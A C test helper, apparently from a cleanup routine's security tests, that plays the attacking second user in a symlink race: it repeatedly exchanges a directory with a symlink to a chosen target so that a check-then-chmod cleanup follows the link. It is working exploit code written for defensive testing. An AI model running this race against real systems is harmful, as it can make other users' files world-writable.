// The attacker of the two-user race test: a second user sharing a
// world-writable directory inside someone's temporary directory, swapping
// a directory with a symlink as fast as the kernel allows, so that a
// cleanup which checks a name and then chmods it by path follows the link.
//
// usage: swap_race ROOT TARGET
//   makes ROOT/a (sticky and world-writable: the victim cannot remove what
//   is inside, so its cleanup has to take the slow path), ROOT/a/d (a
//   directory of mode 077, which a "mode | 0700" rule would make 0777) and
//   ROOT/a/s (a symlink to TARGET), prints "ready", then exchanges a/d and
//   a/s with renameat2(RENAME_EXCHANGE) until it is killed. It counts the
//   exchanges that succeeded and prints the count on SIGTERM.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop = 0;
static void on_term(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: swap_race ROOT TARGET\n");
    return 2;
  }
  if (chdir(argv[1]) != 0) {
    perror("chdir");
    return 1;
  }
  umask(0);
  if (mkdir("a", 01777) != 0 || mkdir("a/d", 0077) != 0 ||
      symlink(argv[2], "a/s") != 0) {
    perror("setup");
    return 1;
  }
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, NULL);
  puts("ready");
  fflush(stdout);
  unsigned long swaps = 0;
  while (!stop) {
    if (syscall(SYS_renameat2, AT_FDCWD, "a/d", AT_FDCWD, "a/s",
                RENAME_EXCHANGE) == 0) {
      swaps++;
    }
  }
  printf("%lu\n", swaps);
  return 0;
}
